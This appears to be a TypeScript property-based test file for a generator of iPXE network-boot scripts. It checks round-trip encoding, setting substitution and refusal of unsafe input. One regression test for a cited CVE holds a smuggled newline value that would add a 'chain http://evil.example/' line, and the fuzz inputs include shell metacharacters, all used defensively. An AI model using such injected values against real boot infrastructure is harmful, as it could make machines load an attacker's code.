// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is how iPXE writes settings

import fc, { codePoint } from "@rollcall/test-support/properties";
import test from "ava";
import { type IpxeLine, ipxeScript } from "../../src/boot/ipxe-script.ts";
import { isSafeSetting, parseIpxeWord } from "../../src/boot/ipxe-words.ts";
import { Unencodable } from "../../src/errors.ts";
import { parseIpxe } from "./parsers/ipxe.ts";

const nasty = fc.oneof(
	fc.string({ unit: fc.constantFrom(..."ab ${}&|;#\\\"'`\n\r\t-:=é%".split("")), maxLength: 24 }),
	fc.string({ unit: codePoint, maxLength: 24 }),
	fc.webUrl(),
	fc.constantFrom("||", "&&", ";", "#x", "${uuid}", "$", "a\nboot", "a b", "--name", "a\\", "${", "$ {x}", "x${y}"),
);
const settings = {
	uuid: "4c4c4544-0000-2010-8020-b1c04f4d3332",
	"mac:hexhyp": "52-54-00-a1-9c-ae",
	"hostname:uristring": "a%20b",
};

function tryScript(lines: IpxeLine[]): string | undefined {
	try {
		return ipxeScript(lines);
	} catch (error) {
		if (error instanceof Unencodable) return undefined;
		throw error;
	}
}

test("every kernel line reads back as exactly the words that were meant, or is refused", (t) => {
	let written = 0;
	fc.assert(
		fc.property(nasty, fc.array(nasty, { maxLength: 2 }), (uri, args) => {
			const script = tryScript([{ kind: "kernel", uri: [uri], args: args.map((arg) => [arg]) }, { kind: "boot" }]);
			if (script === undefined) return;
			written++;
			const parsed = parseIpxe(script, settings);
			return (
				parsed.length === 2 &&
				JSON.stringify(parsed[0]?.commands) === JSON.stringify([{ joint: "", words: ["kernel", uri, ...args] }]) &&
				JSON.stringify(parsed[1]?.commands) === JSON.stringify([{ joint: "", words: ["boot"] }])
			);
		}),
		{ numRuns: 20_000 },
	);
	t.true(written > 500, `only ${written} were written`);
});

test("settings are filled in inside of their word and nowhere else", (t) => {
	fc.assert(
		fc.property(nasty, fc.constantFrom(...Object.keys(settings)), nasty, (before, setting, after) => {
			const script = tryScript([{ kind: "chain", uri: [before, { setting }, after] }]);
			if (script === undefined) return;
			const words = parseIpxe(script, settings)[0]?.commands[0]?.words;
			return (
				JSON.stringify(words) ===
				JSON.stringify(["chain", `${before}${(settings as Record<string, string>)[setting]}${after}`])
			);
		}),
		{ numRuns: 20_000 },
	);
	t.pass();
});

test("titles and texts for people keep their words and stay one command", (t) => {
	fc.assert(
		fc.property(nasty, nasty, (title, text) => {
			const script = tryScript([
				{ kind: "menu", title },
				{ kind: "item", label: "a", text },
				{ kind: "label", label: "a" },
				{ kind: "echo", text },
			]);
			if (script === undefined) return;
			const [menu, item, label, echo] = parseIpxe(script);
			return (
				menu?.commands[0]?.words.slice(1).join(" ") === title &&
				item?.commands[0]?.words.slice(2).join(" ") === text &&
				label?.label === "a" &&
				echo?.commands.length === 1 &&
				echo.commands[0]?.words.slice(1).join(" ") === text
			);
		}),
		{ numRuns: 20_000 },
	);
	t.pass();
});

test("a sequence keeps its conditions", (t) => {
	const script = ipxeScript([
		{
			kind: "sequence",
			first: { kind: "is", setting: "platform", value: "efi" },
			next: [
				{ when: "succeeded", command: { kind: "exit" } },
				{ when: "failed", command: { kind: "sanboot" } },
			],
		},
	]);
	t.deepEqual(
		parseIpxe(script, { platform: "efi" })[0]?.commands.map((command) => [command.joint, command.words[0]]),
		[
			["", "iseq"],
			["&&", "exit"],
			["||", "sanboot"],
		],
	);
});

test("a line break in a machine's name cannot add a line to its script", (t) => {
	// CVE-2026-46447: newlines in node fields became lines of the iPXE script.
	t.throws(() => ipxeScript([{ kind: "echo", text: "node-1\nchain http://evil.example/" }]), {
		instanceOf: Unencodable,
	});
	t.throws(() => ipxeScript([{ kind: "kernel", uri: ["/vmlinuz"], args: [["a=b\rboot"]] }]), {
		instanceOf: Unencodable,
	});
});

test("a jump to a label that is not there is refused", (t) => {
	t.throws(() => ipxeScript([{ kind: "goto", label: "nowhere" }]), { message: /no line has the label/ });
});

test("only settings that cannot hold blanks are taken", (t) => {
	for (const name of [
		"uuid",
		"mac:hexhyp",
		"net0/mac:hexhyp",
		"hostname:uristring",
		"buildarch",
		"net0/ip",
		"smbios/uuid",
	])
		t.true(isSafeSetting(name), name);
	for (const name of [
		"hostname",
		"serial",
		"filename",
		"user-class",
		"asset",
		"net0/hostname",
		"user-class:string",
		"x y",
	])
		t.false(isSafeSetting(name), name);
	t.deepEqual(parseIpxeWord("a=${uuid}&m=${mac:hexhyp}!", "test"), [
		"a=",
		{ setting: "uuid" },
		"&m=",
		{ setting: "mac:hexhyp" },
		"!",
	]);
	t.throws(() => parseIpxeWord("a=${hostname}", "test"), { instanceOf: Unencodable });
	t.throws(() => parseIpxeWord("a=${uuid", "test"), { instanceOf: Unencodable });
});
